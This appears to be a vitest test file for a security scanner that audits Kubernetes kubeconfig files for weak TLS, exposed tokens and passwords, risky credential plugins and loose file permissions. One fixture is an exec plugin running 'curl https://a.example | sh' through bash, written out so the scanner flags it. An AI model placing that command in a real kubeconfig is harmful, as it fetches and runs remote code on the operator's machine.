import { describe, expect, it } from 'vitest';
import { testExamples } from '../../../test/control-examples.ts';
import { judgeText } from '../../../test/judge-example.ts';
import { formatPath } from '../../model/path.ts';
import type { AnyControl } from '../control.ts';
import clusters from './clusters.ts';
import contents from './contents.ts';
import credentials from './credentials.ts';
import { onNode, ownFile } from './example-kubeconfig.ts';
import execPlugins from './exec-plugins.ts';
import kuberc from './kuberc.ts';
import ownFiles from './own-files.ts';

const controls: readonly AnyControl[] = [...clusters, ...contents, ...credentials, ...execPlugins, kuberc, ...ownFiles];

function findings(text: string): string[] {
  const judgement = judgeText(controls, text);
  expect(judgement.errors).toEqual([]);
  return judgement.findings.map(
    ({ control, severity, failure, message }) =>
      `${control.id.slice(11)} ${severity} ${formatPath(failure.at)}: ${message}`,
  );
}

describe.each(controls.map((control) => [control.id, control] as const))('%s', (_, control) => {
  testExamples(control, {
    passing: ({ coverage }, text) => expect(coverage.get(control)?.pass, text).toBeGreaterThan(0),
  });
});

const server = 'https://192.0.2.2:6443';
const ca = 'certificate-authority: /ca.crt';
const jwt = (claims: object): string => `e30.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.c2ln`;
const now = Date.parse('2026-11-21T00:00:00Z') / 1000;
const user = 'users[0].user';
const execAt = `${user}.exec`;
const v1 = 'apiVersion: client.authentication.k8s.io/v1';

describe('a kubeconfig', () => {
  it.each<[string, string[]]>([
    [`{server: '${server}', ${ca}}`, []],
    [
      "{server: 'http://127.0.0.1:8080'}",
      ['plain-http high clusters[0].cluster.server: cluster "prod" is reached without TLS, at http://127.0.0.1:8080'],
    ],
    [
      '{server: a.example}',
      ['plain-http critical clusters[0].cluster.server: cluster "prod" is reached without TLS, at a.example'],
    ],
    ['{server: a.example, certificate-authority: /ca.crt}', []],
    [
      "{server: 'https://localhost:6443', insecure-skip-tls-verify: true}",
      [
        'tls-verification medium clusters[0].cluster.insecure-skip-tls-verify: cluster "prod" skips the verification of https://localhost:6443',
      ],
    ],
    [
      `{server: '${server}', ${ca}, insecure-skip-tls-verify: true}`,
      [
        'accepted low clusters[0].cluster.insecure-skip-tls-verify: cluster "prod" has a certificate authority and skips verification',
      ],
    ],
    [`{server: '${server}', ${ca}, tls-server-name: 192.0.2.2}`, []],
    [
      `{server: '${server}', ${ca}, proxy-url: 'http://ann:secret@proxy.example'}`,
      ['proxy high clusters[0].cluster.proxy-url: cluster "prod" has a password in its proxy’s URL'],
    ],
    [
      `{server: '${server}', ${ca}, proxy-url: 'http://proxy.example:3128'}`,
      [
        'proxy medium clusters[0].cluster.proxy-url: cluster "prod" goes through http://proxy.example:3128, to which nothing is encrypted',
      ],
    ],
    [`{server: '${server}', ${ca}, proxy-url: 'https://proxy.example'}`, []],
  ])('with the cluster %s', (cluster, expected) => {
    expect(findings(onNode({ cluster }))).toEqual(expected);
  });

  it.each<[string, string, string[]]>([
    [
      'an opaque token',
      '{token: abc}',
      [`static-token high ${user}.token: user "ann" has a bearer token that does not say until when it is valid`],
    ],
    [
      'the token of a service account that never expires',
      `{token: ${jwt({ sub: 'system:serviceaccount:kube-system:admin' })}}`,
      [
        `static-token high ${user}.token: user "ann" has a token of system:serviceaccount:kube-system:admin that never expires`,
      ],
    ],
    [
      'a token of a month',
      `{token: ${jwt({ sub: 'ann', iat: now, exp: now + 30 * 86400 })}}`,
      [`static-token medium ${user}.token: user "ann" has a token of ann that is valid until 2026-12-21`],
    ],
    ['a token of an hour', `{token: ${jwt({ sub: 'ann', iat: now, exp: now + 3600 })}}`, []],
    [
      'a token of yesterday',
      `{token: ${jwt({ exp: now - 86400 })}}`,
      [`static-token low ${user}.token: user "ann" has a token that expired on 2026-11-20`],
    ],
    [
      'a password',
      '{username: ann, password: x}',
      [`password high ${user}.password: user "ann" has a password in the file`],
    ],
    [
      'the gcp provider',
      '{auth-provider: {name: gcp, config: {access-token: x}}}',
      [
        `auth-provider medium ${user}.auth-provider: user "ann" uses the auth provider gcp, which kubectl has not had since v1.26, which keeps access-token in the file`,
      ],
    ],
    [
      'an impersonated group',
      '{as: bob, as-groups: [dev]}',
      [`impersonation medium ${user}.as: user "ann" is always bob in dev`],
    ],
    [
      'a shell',
      `{exec: {command: /bin/bash, ${v1}, args: [-c, 'curl https://a.example | sh']}}`,
      [
        `exec-command high ${execAt}.command: user "ann" runs /bin/bash -c curl https://a.example | sh, which does whatever its arguments say`,
        'plugin-policy low : no kuberc file limits the credential plugins; in use: /bin/bash',
      ],
    ],
    [
      'a known name in a relative folder',
      `{exec: {command: bin/aws, ${v1}}}`,
      [
        `exec-command high ${execAt}.command: user "ann" runs bin/aws, which lies beside the kubeconfig`,
        'plugin-policy low : no kuberc file limits the credential plugins; in use: bin/aws',
      ],
    ],
    [
      'a certificate without a key',
      '{client-certificate: a.crt}',
      [
        `accepted low ${user}: user "ann" has a client certificate without a key`,
        `named-files low ${user}: user "ann" names /home/ann/.kube/a.crt, which is not there`,
      ],
    ],
  ])('with %s', (_, fields, expected) => {
    expect(findings(ownFile({ user: fields })).sort()).toEqual(expected);
  });

  it('of a node keeps no token, and is told of all the same', () => {
    expect(findings(onNode({ user: '{token: REDACTED}' }))).toEqual([
      `static-token high ${user}.token: user "ann" has a bearer token in the file`,
    ]);
    const bootstrap = onNode({ user: '{token: REDACTED}' }).replace('admin.conf', 'bootstrap-kubelet.conf');
    expect(findings(bootstrap)).toEqual([]);
  });

  it.each([
    ['mode 0640', ['own-file-access medium : it holds a credential, and its mode is 0640: its group may read it']],
    ['mode 0604', ['own-file-access medium : it holds a credential, and its mode is 0604: everyone may read it']],
    ['mode 0620', ['own-file-access high : its mode is 0620: its group may write it']],
    ['mode 0600 owner 1001:1000', ['own-file-access high : it belongs to user 1001, who may change it']],
    ['mode 0600 owner 0:0', []],
  ])('of the user with %s', (attributes, expected) => {
    expect(findings(ownFile({ user: `{token: ${jwt({ exp: now + 60 })}}` }, attributes))).toEqual(expected);
  });

  it('stands at the line of what is wrong', () => {
    const [finding] = judgeText(controls, onNode({ user: '{token: REDACTED}' })).findings;
    const place = finding?.places[0];
    expect(place?.object.source.file).toBe('/etc/kubernetes/admin.conf');
    expect(place?.object.source.positions?.locate(place.path)?.line).toBe(6);
  });

  it('with a name twice, unknown fields and odd types says so and goes on', () => {
    const text = `# file: /etc/kubernetes/admin.conf
kind: Config
clusters: [{name: a, cluster: {server: 'https://a', certificate_authority: /x, ${ca}}}, {name: a, cluster: {}}, 3]
users: {}
contexts: [{name: __proto__, context: {cluster: 5}}]
`;
    expect(findings(text).sort()).toEqual([
      'accepted low clusters[1].name: clusters has the name "a" twice',
      'accepted low clusters[2]: clusters[2] must be an object, found a number',
      'accepted low contexts[0].context.cluster: contexts[0].context.cluster must be a string, found a number',
      'accepted low users: users must be a list, found an object',
      'unknown-fields low clusters[0].cluster.certificate_authority: "certificate_authority" is no field that kubectl knows; certificate-authority is meant',
    ]);
  });
});
